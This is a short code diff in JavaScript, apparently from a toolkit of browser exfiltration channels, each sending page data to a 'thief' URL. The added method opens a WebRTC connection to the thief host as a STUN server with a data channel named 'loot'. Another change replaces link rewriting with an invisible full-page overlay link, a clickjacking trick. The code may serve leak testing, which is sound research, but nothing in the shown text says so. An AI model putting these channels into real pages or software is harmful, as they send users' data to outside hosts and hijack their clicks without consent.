@@ -117,6 +117,11 @@ export default () => {
       return wait();
     },
     socket: (thief) => settled(new WebSocket(`${thief.replace('http', 'ws')}/socket?${query()}`)),
+    async line(thief) {
+      const line = new RTCPeerConnection({ iceServers: [{ urls: thief.replace('http://', 'stun:') }] });
+      line.createDataChannel('loot');
+      await line.setLocalDescription(await line.createOffer());
+    },
     refresh(thief) {
       element('meta', { httpEquiv: 'refresh', content: `0;url=${thief}/refresh?${query()}` });
       return wait();
@@ -129,12 +134,10 @@ export default () => {
       location.assign(`${thief}/navigation?${query()}`);
       return wait();
     },
-    /** Under the finger of the member, each link of the page leads elsewhere. */
+    /** Under the finger of the member, all of the page is a link. */
     pressed(thief) {
-      addEventListener('pointerdown', ({ target }) => {
-        const link = target.closest('a');
-        if (link) link.href = `${thief}/pressed?${query()}`;
-      });
+      const link = element('a', { href: `${thief}/pressed?${query()}` });
+      Object.assign(link.style, { position: 'fixed', inset: '0', zIndex: '9999' });
     },
   };
 
